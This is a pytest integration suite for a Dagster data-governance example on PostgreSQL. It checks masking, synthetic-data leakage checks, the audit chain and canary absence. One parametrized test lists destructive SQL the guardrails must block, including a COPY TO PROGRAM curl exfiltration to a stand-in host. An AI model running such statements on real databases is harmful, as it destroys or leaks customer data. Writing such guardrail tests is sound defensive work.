"""The example project end to end on the real PostgreSQL server, configured by URLs and nothing else.

A fresh database holds the seeded production tables (canaries planted in customer 1). One run reads it, with the
production tables, the warehouse and the audit store all on PostgreSQL (the warehouse and the audit store fresh
databases of their own): governed_job with Dagster's default multiprocess executor (steps in parallel processes
writing the warehouse at once), naive_job in process. (A DuckDB warehouse is what tests/test_example_project.py runs.)

The run goes through the Dagster CLI in a Dagster instance of its own; the tests then read what it left: the
warehouse tables, the PostgreSQL audit chain, the check evaluations, every file of the Dagster instance, and what
the guardrails do with a destructive statement sent to the PostgreSQL production database.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import uuid
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path

import pandas as pd
import pytest
from sqlalchemy import create_engine, text
from sqlalchemy.engine import Engine, make_url

from example_project.seed import seed_database
from governance_dagster import GovernedDatabase
from governance_dagster.errors import StatementBlocked
from governance_dagster.governed.masking.operators import get_operator
from governance_dagster.store.audit.store import open_audit_store
from tests.conftest import CANARIES, SECRET, contains_canary
from tests.test_example_project import NAIVE_TABLE, _bytes_of, _dump_sqlite

pytestmark = [pytest.mark.postgres, pytest.mark.slow]
ROOT = Path(__file__).resolve().parents[2]
POLICY = ROOT / "example_project" / "policy.yaml"
CUSTOMERS = 400
SYNTHETIC_ROWS = 300
IN_PROCESS = "execution:\n  config:\n    in_process: {}\n"


def _engine(url: str, **options: object) -> Engine:
    return create_engine(make_url(url).set(drivername="postgresql+psycopg"), **options)


@dataclass(frozen=True)
class ExampleRun:
    """Where the example ran and what its two job runs returned."""

    source_url: str
    audit_url: str
    #: None: the embedded DuckDB default under ``data``.
    warehouse_url: str | None
    home: Path
    data: Path
    governed: subprocess.CompletedProcess
    naive: subprocess.CompletedProcess


@contextmanager
def _fresh_databases(postgres_url: str, *names: str) -> Iterator[list[str]]:
    """Fresh databases on the server, their URLs; dropped afterwards."""
    admin = _engine(postgres_url, isolation_level="AUTOCOMMIT")
    try:
        with admin.connect() as con:
            for database in names:
                con.execute(text(f'CREATE DATABASE "{database}"'))
        yield [make_url(postgres_url).set(database=d).render_as_string(hide_password=False) for d in names]
    finally:
        with admin.connect() as con:
            for database in names:
                con.execute(text(f'DROP DATABASE IF EXISTS "{database}" WITH (FORCE)'))
        admin.dispose()


def _plant_canaries(source_url: str) -> None:
    engine = _engine(source_url)
    with engine.begin() as con:
        con.execute(
            text("UPDATE customers SET full_name = :full_name, email = :email, phone = :phone, ssn = :ssn, "
                 "street = :street, support_notes = :note WHERE customer_id = 1"),
            {**CANARIES, "note": f"{CANARIES['full_name']} asked us to write to {CANARIES['email']} or call "
                                 f"{CANARIES['phone']}"},
        )
    engine.dispose()


@pytest.fixture(scope="module")
def source_url(postgres_url: str) -> Iterator[str]:
    """A fresh production database, seeded, with the canaries planted."""
    with _fresh_databases(postgres_url, f"gd_example_{uuid.uuid4().hex[:12]}") as (url,):
        seed_database(url, customers=CUSTOMERS)
        _plant_canaries(url)
        yield url


def _run_example(root: Path, urls: dict[str, str], executors: dict[str, str | None]) -> ExampleRun:
    """Run each job of ``executors`` (job -> run config YAML, None for Dagster's default multiprocess executor)
    through the Dagster CLI, with only the database URLs of ``urls`` set, in a Dagster instance under ``root``."""
    home, data = root / "dagster_home", root / "data"
    home.mkdir()
    (home / "dagster.yaml").write_text("telemetry:\n  enabled: false\n")
    env = {
        **{k: v for k, v in os.environ.items() if not k.startswith("GOVERNANCE_")},
        "DAGSTER_HOME": str(home),
        "GOVERNANCE_EXAMPLE_DATA": str(data),
        "GOVERNANCE_SECRET": SECRET,
        "GOVERNANCE_EXAMPLE_SYNTHETIC_ROWS": str(SYNTHETIC_ROWS),
        **urls,
        "PYTHONWARNINGS": "ignore",
    }

    def run(job: str, config: str | None) -> subprocess.CompletedProcess:
        options = []
        if config is not None:
            (root / f"{job}.yaml").write_text(config)
            options = ["-c", str(root / f"{job}.yaml")]
        return subprocess.run(
            [sys.executable, "-m", "dagster", "job", "execute", "-m", "example_project.definitions", "-j", job,
             *options],
            cwd=ROOT, env=env, capture_output=True, text=True, timeout=600, check=False,
        )

    runs = {job: run(job, config) for job, config in executors.items()}
    return ExampleRun(urls["GOVERNANCE_PRODUCTION_URL"], urls["GOVERNANCE_AUDIT_URL"],
                      urls.get("GOVERNANCE_WAREHOUSE_URL"), home, data, runs["governed_job"], runs["naive_job"])


@pytest.fixture(scope="module")
def warehouse_run(source_url: str, postgres_url: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[ExampleRun]:
    """Every database on PostgreSQL: governed_job with the multiprocess executor, naive_job in process."""
    name = make_url(source_url).database
    with _fresh_databases(postgres_url, f"{name}_wh", f"{name}_wh_audit") as (warehouse_url, audit_url):
        yield _run_example(
            tmp_path_factory.mktemp("example_pg_warehouse"),
            {"GOVERNANCE_PRODUCTION_URL": source_url, "GOVERNANCE_WAREHOUSE_URL": warehouse_url,
             "GOVERNANCE_AUDIT_URL": audit_url},
            {"governed_job": None, "naive_job": IN_PROCESS})


def _check_evaluations(home: Path, job: str) -> dict[str, dict]:
    """``asset.check`` -> {passed, metadata values} of the latest run of ``job``, read through Dagster's API."""
    from dagster import DagsterEventType, DagsterInstance, RunsFilter

    instance = DagsterInstance.from_config(str(home))
    run = instance.get_runs(filters=RunsFilter(job_name=job), limit=1)[0]
    found = {}
    for record in instance.all_logs(run.run_id, of_type=DagsterEventType.ASSET_CHECK_EVALUATION):
        evaluation = record.dagster_event.event_specific_data
        found[f"{evaluation.asset_key.to_user_string()}.{evaluation.check_name}"] = {
            "passed": evaluation.passed, **{k: v.value for k, v in evaluation.metadata.items()}}
    return found


@pytest.mark.parametrize(
    ("sql", "rule"),
    [
        ("DROP TABLE customers", "protected-schema"),
        ("TRUNCATE public.orders", "protected-schema"),
        ("DELETE FROM customers", "unbounded-write"),
        ("UPDATE public.customers SET email = NULL", "unbounded-write"),
        ("COPY customers TO PROGRAM 'curl -d @- http://example.org'", "no-administration"),
        ("INSERT INTO public.orders SELECT * FROM dblink('host=example.org', 'SELECT 1') AS t(x int)",
         "no-external-access"),
        ("SELECT pg_terminate_backend(pid) FROM pg_stat_activity", "no-administration"),
    ],
)
def test_when_a_destructive_statement_targets_the_postgres_production_then_its_rule_blocks_it(
    warehouse_run: ExampleRun, sql: str, rule: str
) -> None:
    production = GovernedDatabase(url=warehouse_run.source_url, policy_path=str(POLICY), secret=SECRET,
                                  audit_url=warehouse_run.audit_url)
    with pytest.raises(StatementBlocked) as caught:
        production.connection(asset="on-call-fix").execute(sql)
    assert caught.value.rule == rule
    engine = _engine(warehouse_run.source_url)
    with engine.connect() as con:
        assert con.execute(text("SELECT count(*) FROM customers")).scalar_one() == CUSTOMERS
        assert con.execute(text("SELECT count(*) FROM customers WHERE email IS NULL")).scalar_one() == 0
    engine.dispose()
    store = open_audit_store(warehouse_run.audit_url)
    refused = store.last_of_kind("statement.refused")
    assert refused is not None and refused.payload["rule"] == rule
    assert store.verify().ok


GOVERNED_TABLES = {("governed", t) for t in ("masked_customers", "masked_orders", "synthetic_customers", "synthetic_orders")}


def _postgres_tables(url: str) -> dict[tuple[str, str], pd.DataFrame]:
    """Every table of the database's user schemas, read whole with SQLAlchemy."""
    engine = _engine(url)
    with engine.connect() as con:
        names = con.execute(text("SELECT table_schema, table_name FROM information_schema.tables "
                                 "WHERE table_schema NOT IN ('pg_catalog', 'information_schema')")).all()
        frames = {(s, t): pd.read_sql_query(text(f'SELECT * FROM "{s}"."{t}"'), con) for s, t in names}
    engine.dispose()
    return frames


def _column_types(url: str, schema: str, table: str) -> dict[str, str]:
    engine = _engine(url)
    with engine.connect() as con:
        rows = con.execute(text("SELECT column_name, data_type FROM information_schema.columns "
                                "WHERE table_schema = :s AND table_name = :t"), {"s": schema, "t": table}).all()
    engine.dispose()
    return dict(rows)


def _step_processes(home: Path, job: str) -> set[int]:
    """The process ids that ran the steps of the latest run of ``job``."""
    from dagster import DagsterEventType, DagsterInstance, RunsFilter

    instance = DagsterInstance.from_config(str(home))
    run = instance.get_runs(filters=RunsFilter(job_name=job), limit=1)[0]
    return {r.dagster_event.pid for r in instance.all_logs(run.run_id, of_type=DagsterEventType.STEP_START)}


def test_when_every_database_is_postgres_then_the_governed_job_runs_in_processes_and_stores_masked_tables_there(
    warehouse_run: ExampleRun,
) -> None:
    assert warehouse_run.governed.returncode == 0, warehouse_run.governed.stderr[-3000:]
    assert len(_step_processes(warehouse_run.home, "governed_job")) > 2, "the multiprocess executor runs each step apart"
    checks = _check_evaluations(warehouse_run.home, "governed_job")
    assert len(checks) == 8 and all(c["passed"] for c in checks.values()), checks
    replay = checks["synthetic_customers.no_identifier_replay"]
    assert replay["governance/replayed_values"] == 0 and replay["governance/real_table"] == "public.customers"
    assert set(replay["governance/identifier_columns"]) >= {"full_name", "email", "phone", "ssn", "street"}
    free_text = checks["synthetic_customers.no_free_text_identifiers"]
    assert free_text["governance/free_text_hits"] == 0 and "governance/free_text/support_notes" in free_text
    rare = checks["synthetic_customers.no_rare_combinations"]
    assert rare["governance/rare_rows"] == 0 and set(rare["governance/quasi_identifiers"]) == {"birth_date", "postal_code"}
    for table in ("customers", "orders"):
        copied = checks[f"synthetic_{table}.no_copied_records"]
        assert copied["governance/copied_rows"] == 0 and copied["governance/compared_columns"], table
        contract = checks[f"synthetic_{table}.contract"]  # derived from the PostgreSQL table's profile
        assert contract["governance/expectations_evaluated"] == contract["governance/expectations_successful"] > 20
        assert Path(contract["governance/data_docs_path"]).is_relative_to(warehouse_run.home / "gx_data_docs"), table
    tables = _postgres_tables(warehouse_run.warehouse_url)
    assert set(tables) - {NAIVE_TABLE} == GOVERNED_TABLES, "no staging table is left behind"
    masked = tables[("governed", "masked_customers")]
    assert len(masked) == CUSTOMERS and len(tables[("governed", "masked_orders")]) > CUSTOMERS
    expected = get_operator("hash").apply(pd.Series([CANARIES["email"]]), {}, SECRET)[0]
    assert expected in set(masked["email"])
    assert set(masked["ssn"]) == {""}  # redact
    assert len(tables[("governed", "synthetic_customers")]) == len(tables[("governed", "synthetic_orders")]) == SYNTHETIC_ROWS
    # a date read from PostgreSQL lands as a timestamp, as it does in DuckDB, not as text
    assert _column_types(warehouse_run.warehouse_url, "governed", "synthetic_customers")["birth_date"].startswith("timestamp")
    assert not warehouse_run.data.exists(), "nothing is written beside the project when every URL names PostgreSQL"


def test_when_every_database_is_postgres_then_no_warehouse_table_but_the_naive_one_holds_a_canary(
    warehouse_run: ExampleRun,
) -> None:
    assert warehouse_run.governed.returncode == 0, warehouse_run.governed.stderr[-3000:]
    tables = _postgres_tables(warehouse_run.warehouse_url)
    assert GOVERNED_TABLES | {NAIVE_TABLE} <= set(tables)
    found = {t: kinds for t, frame in tables.items() if t != NAIVE_TABLE and (kinds := contains_canary(frame.to_csv()))}
    assert found == {}
    assert contains_canary(warehouse_run.governed.stdout + warehouse_run.governed.stderr) == []
    # the planted values were really there to be found
    assert contains_canary(tables[NAIVE_TABLE].to_csv()) != [], "the naive twin replays real values"
    production = _postgres_tables(warehouse_run.source_url)[("public", "customers")]
    assert sorted(contains_canary(production.to_csv())) == sorted(CANARIES)


def test_when_every_database_is_postgres_then_the_naive_job_fails_its_blocking_checks_and_downstream_does_not_run(
    warehouse_run: ExampleRun,
) -> None:
    from dagster import AssetKey, DagsterInstance

    assert warehouse_run.naive.returncode != 0, "the naive job must fail: its blocking leakage checks fail"
    checks = _check_evaluations(warehouse_run.home, "naive_job")
    replay = checks["naive_synthetic_customers.no_identifier_replay"]
    assert replay["passed"] is False and replay["governance/replayed_values"] > 0
    for column in ("full_name", "street"):  # SDV learns them as categories and replays them, far beyond chance
        replayed = replay[f"governance/weak_replayed/{column}"]
        assert replayed["blocked"] and replayed["matched_rows"] > 0 and replayed["excess"] > replayed["margin"], column
    free_text = checks["naive_synthetic_customers.no_free_text_identifiers"]
    assert free_text["passed"] is False and free_text["governance/free_text/support_notes"]["cells"] > 0
    tables = _postgres_tables(warehouse_run.warehouse_url)
    assert NAIVE_TABLE in tables and ("naive", "naive_customer_segments") not in tables
    assert contains_canary(str(checks) + warehouse_run.naive.stdout + warehouse_run.naive.stderr) == []
    instance = DagsterInstance.from_config(str(warehouse_run.home))
    assert instance.fetch_materializations(AssetKey("naive_customer_segments"), limit=1).records == []


def test_when_every_database_is_postgres_then_the_audit_chain_verifies_and_records_the_warehouse_writes(
    warehouse_run: ExampleRun,
) -> None:
    cli = subprocess.run([sys.executable, "-m", "governance_dagster.cli", "audit", "verify", "--store",
                          warehouse_run.audit_url], cwd=ROOT, capture_output=True, text=True, timeout=120, check=False)
    assert cli.returncode == 0 and cli.stdout.startswith("audit chain intact:"), cli.stderr
    store = open_audit_store(warehouse_run.audit_url)
    events = list(store.events())
    verification = store.verify()
    assert verification.ok and verification.events == len(events)
    writes = {e.payload["table"]: e.payload["rows"] for e in events if e.kind == "write"}
    stored = {f"{s}.{t}": len(frame) for (s, t), frame in _postgres_tables(warehouse_run.warehouse_url).items()}
    assert writes == stored  # one audited write per warehouse table, with its row count
    assert {e.payload["database"] for e in events if e.kind in ("write", "read")} == {"postgres"}
    warehouse = make_url(warehouse_run.warehouse_url).database
    assert {make_url(e.payload["database_id"]).database for e in events if e.kind == "write"} == {warehouse}
    reads = [e for e in events if e.kind == "read" and e.payload["tables"] == ["public.customers"]]
    assert reads and reads[0].payload["masked"]["email"] == ["public.customers.email:hash"]
    loads = {tuple(e.payload["tables"]) for e in events if e.kind == "read" and e.payload.get("step") == "load"}
    assert ("governed.masked_customers",) in loads and ("governed.synthetic_customers",) in loads
    # the replay checks compared two PostgreSQL databases through keyed digests released by each side
    digests = {e.payload["table"] for e in events if e.kind == "unmasked_read"
               and e.payload.get("released") == "keyed digests only" and e.payload.get("step") == "leakage_check"}
    assert {"public.customers", "governed.synthetic_customers", "naive.naive_synthetic_customers"} <= digests
    assert {e.payload["synthetic_table"]: e.payload["passed"] for e in events if e.kind == "check"
            and e.payload["check"] == "identifier_replay"} == {
        "governed.synthetic_customers": True, "governed.synthetic_orders": True, "naive.naive_synthetic_customers": False}
    assert contains_canary("\n".join(json.dumps(e.payload) for e in events)) == []


def test_when_the_jobs_ran_then_no_canary_is_in_the_dagster_storage_compute_logs_or_run_output(
    warehouse_run: ExampleRun,
) -> None:
    run = warehouse_run
    files = [p for p in run.home.rglob("*") if p.is_file()]
    assert any(p.suffix == ".db" for p in files) and any("compute_logs" in str(p) for p in files)
    searched = {"governed_job stdout/stderr": run.governed.stdout + run.governed.stderr,
                "naive_job stdout/stderr": run.naive.stdout + run.naive.stderr}
    for path in files:
        searched[str(path)] = _bytes_of(path)
        if path.suffix == ".db":
            searched[f"{path} (tables)"] = _dump_sqlite(path)
    found = {where: kinds for where, text in searched.items() if (kinds := contains_canary(text))}
    assert found == {}, f"canaries found: {found}"
